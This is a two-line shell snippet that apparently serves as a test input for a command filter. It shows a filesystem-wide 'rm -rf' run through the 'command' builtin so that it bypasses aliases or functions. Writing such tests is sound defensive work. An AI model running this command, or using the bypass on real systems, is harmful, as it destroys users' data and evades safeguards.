# tricky: past functions and aliases
command rm -rf -- "/"
